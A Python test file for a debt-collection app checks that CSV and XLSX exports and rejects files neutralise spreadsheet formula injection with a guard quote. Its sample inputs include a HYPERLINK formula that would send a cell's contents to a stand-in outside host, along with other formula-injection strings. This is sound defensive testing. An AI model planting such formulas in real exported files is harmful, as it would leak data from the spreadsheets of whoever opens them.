"""No cell of an export or a rejects file can run as a spreadsheet formula."""

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session

from campaigns.escalations import escalations_csv
from campaigns.models import Debtor
from campaigns.portfolio_import import import_portfolio
from campaigns.safe_export import FORMULA_STARTS, safe_cell, safe_xlsx_value
from tests import hostile_files
from tests.factories import CREATED_AT, TODAY, make_client


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate the cell as a formula that is more than a number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    return not re.fullmatch(r"[+-][\d.,]*\d[\d.,]*", cell)


def test_formula_looking_values_come_out_neutral_in_escalations_and_rejects(
    session: Session,
) -> None:
    client = make_client(session)
    summary = import_portfolio(
        session,
        client_id=client.id,
        filename="formulas.csv",
        content=hostile_files.formula_csv(),
        today=TODAY,
        now=CREATED_AT,
    )
    assert (summary.escalated, summary.rejected) == (2, 1)

    export = escalations_csv(session, client_id=client.id, today=TODAY, now=CREATED_AT)
    cells = _cells(export)
    assert not [c for c in cells if _runs_as_formula(c)]
    assert '\'=HYPERLINK("http://x.example/?"&A1)' in cells
    assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'+BN-2" in cells and "'-Juan" in cells
    assert "+525512345678" in cells  # an E.164 phone is a plain number: left as data

    rejects = _cells(summary.rejects_file.read_text(encoding="utf-8-sig"))  # type: ignore[union-attr]
    assert not [c for c in rejects if _runs_as_formula(c)]
    assert "'=1+1" in rejects

    # The export re-imports as the creditor wrote it: our reader drops the guard quote.
    again = import_portfolio(
        session,
        client_id=client.id,
        filename="handoff.csv",
        content=export.encode(),
        today=TODAY,
        now=CREATED_AT,
    )
    assert (again.imported, again.rejected) == (0, 0)
    assert sorted(session.scalars(select(Debtor.name))) == ["-Juan", "=1+2"]


@given(st.text(max_size=30))
def test_no_text_survives_safe_cell_as_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not _runs_as_formula(cell)
    assert cell in (text, "'" + text)


def test_negative_amounts_stay_numbers_and_text_is_guarded() -> None:
    assert safe_cell("-120.50") == "-120.50"
    assert safe_cell("-350,00") == "-350,00" and safe_cell("-1.234,56") == "-1.234,56"
    assert safe_cell("-120.50 MXN") == "'-120.50 MXN"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_xlsx_value(-120.5) == -120.5
    assert safe_xlsx_value("=SUM(A1:A9)") == "'=SUM(A1:A9)"
